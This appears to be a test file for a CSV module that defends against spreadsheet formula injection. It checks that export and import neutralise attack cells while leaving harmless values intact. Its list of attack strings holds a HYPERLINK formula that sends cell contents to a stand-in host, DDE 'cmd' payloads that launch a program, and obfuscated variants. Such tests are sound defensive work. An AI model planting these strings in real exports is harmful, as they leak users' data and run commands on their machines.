import Papa from 'papaparse'
import { cellWithoutFormula, inertCell } from './csv-cell'
import { toCsv } from './csv'

const ATTACKS = [
  '=HYPERLINK("https://x.example/?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r\n=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(1)',
  '\u200b=1+1',
  '==@=1+1',
]
const HARMLESS = ['恒拓精密', '024-1234567', '+86 138 0000 0000', '-5', 'a=b', '企业 - 部门', '', '3+4']

describe('cells that a spreadsheet would run', () => {
  it.each(ATTACKS)('%j is exported so that a spreadsheet shows it and does not run it', (text) => {
    const [[cell]] = Papa.parse(toCsv([[text, '尾']]), { newline: '\r\n' }).data as [[string]]
    expect(cell.startsWith("'")).toBe(true)
    expect(cell.slice(1)).toBe(text)
  })

  it.each(ATTACKS)('%j is imported without the signs that would run it', (text) => {
    const left = cellWithoutFormula(text)
    expect(left).not.toMatch(/^[\s=@＝＠\t\r\n]/)
    expect(inertCell(left)).toBe(left)
  })

  it.each(HARMLESS)('%j stays as it is', (text) => {
    expect(inertCell(text)).toBe(text)
    expect(cellWithoutFormula(text)).toBe(text)
  })

  it('a cell cannot break out of its column or row', () => {
    const rows = [
      ['a,"b"\r\n=1+1', '=x"'],
      ['二', '三'],
    ]
    const parsed = Papa.parse(toCsv(rows).trimEnd()).data
    expect(parsed).toEqual([
      ['a,"b"\r\n=1+1', '\'=x"'],
      ['二', '三'],
    ])
  })
})
